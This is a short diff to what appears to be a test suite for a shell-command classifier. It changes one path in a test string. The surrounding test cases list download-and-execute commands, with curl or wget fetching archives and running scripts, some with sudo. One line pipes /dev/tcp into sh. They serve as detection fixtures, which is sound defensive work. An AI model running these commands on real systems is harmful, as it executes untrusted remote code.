@@ -175,7 +175,7 @@ describe('a download runs', () => {
     ['curl https://h/x.tgz | tar --get && python a/b/setup_v2.py', ['runFile']],
     ['curl -O https://h/x.7z; 7z x x.7z && ./run2.bin', ['runFile']],
     ['curl -O https://h/x.7z; 7z e x.7z && perl deploy.pl', ['runFile']],
-    ['wget https://h/x.zip && unzip x.zip && sh x/setup.sh', ['runFile']],
+    ['wget https://h/x.zip && unzip x.zip && sh some/setup.sh', ['runFile']],
     ['curl -LO https://h/x.tgz; tar xf x.tgz -C x; cd x; sudo ./install-all.sh', ['runFile']],
     ['curl -O https://h/x; sh /tmp/x', ['runFile']],
     ['sh < /dev/tcp/h/1', ['runInput']],
